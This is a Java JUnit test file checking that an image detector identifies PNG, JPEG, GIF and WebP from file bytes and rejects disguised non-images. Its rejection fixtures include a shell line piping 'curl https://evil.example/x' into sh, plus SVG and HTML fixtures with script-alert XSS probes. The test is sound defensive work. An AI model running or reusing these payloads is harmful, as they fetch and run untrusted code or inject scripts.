package io.iton.media;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The format comes from the bytes: the name a file was given counts for nothing. */
class ImageDetectorTest {

    private final ImageDetector detector = new ImageDetector();

    @TempDir
    Path dir;

    @Test
    void recognisesTheFourFormatsWhateverTheyAreCalled() throws IOException {
        Map<String, byte[]> files = Map.of(
                "photo.jpg", TestImages.png(TestImages.photo(40, 30)),
                "photo.png", TestImages.jpeg(40, 30),
                "animation.jpg", TestImages.gif(40, 30),
                "picture", TestImages.resource("opaque.webp"));
        assertThat(detect("photo.jpg", files.get("photo.jpg"))).contains(ImageFormat.PNG);
        assertThat(detect("photo.png", files.get("photo.png"))).contains(ImageFormat.JPEG);
        assertThat(detect("animation.jpg", files.get("animation.jpg"))).contains(ImageFormat.GIF);
        assertThat(detect("picture", files.get("picture"))).contains(ImageFormat.WEBP);
    }

    @Test
    void refusesEverythingElseEvenWithAnImageName() throws IOException {
        Map<String, String> texts = Map.of(
                "script.jpg", "#!/bin/sh\ncurl https://evil.example/x | sh\n",
                "logo.svg.png", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
                "bare.gif", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"/>",
                "page.jpg", "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
                "doc.png", "%PDF-1.7\n1 0 obj\n<<>>\nendobj\n");
        for (var text : texts.entrySet()) {
            assertThat(detect(text.getKey(), text.getValue().getBytes(StandardCharsets.UTF_8))).as(text.getKey()).isEmpty();
        }
        assertThat(detect("empty.jpg", new byte[0])).isEmpty();
    }

    private Optional<ImageFormat> detect(String name, byte[] bytes) throws IOException {
        return detector.detect(Files.write(dir.resolve(name), bytes));
    }
}
